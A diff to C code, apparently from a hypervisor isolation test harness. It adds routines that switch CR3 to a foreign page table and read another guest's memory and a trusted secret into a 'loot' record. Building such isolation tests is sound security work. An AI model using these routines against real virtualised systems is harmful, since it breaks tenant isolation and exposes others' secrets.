@@ -43,6 +43,14 @@ void cr3_foreign(u32 target)
     WRITE_CR(3, (u32)kernel_directory);
 }
 
+/* Tables of ring -1, on which the attacker could run on. */
+void cr3_load(u32 target)
+{
+    WRITE_CR(3, target);
+    record->loot[0] = own_page[0];
+    WRITE_CR(3, (u32)kernel_directory);
+}
+
 static u32 read_through_table(u32 table)
 {
     kernel_directory[DIRECTORY_INDEX(TABLE_WINDOW)] = table | KERNEL_PAGE;
@@ -54,6 +62,14 @@ void table_foreign(u32 target)
 {
     record->loot[0] = read_through_table(target);
     *word_at(TABLE_WINDOW + RESULT_LOOT + 4) = ATTACK_MARK;
+}
+
+/* A shadow table of guest 2: its entries lead to guest 2's pages. */
+void table_shadow(u32 target)
+{
+    kernel_directory[DIRECTORY_INDEX(TABLE_WINDOW)] = target | KERNEL_PAGE;
+    WRITE_CR(3, (u32)kernel_directory);
+    loot(word_at(TABLE_WINDOW + (TRUSTED_SECRET & (LARGE_PAGE - 1))));
 }
 
 int table_own(u32 target)
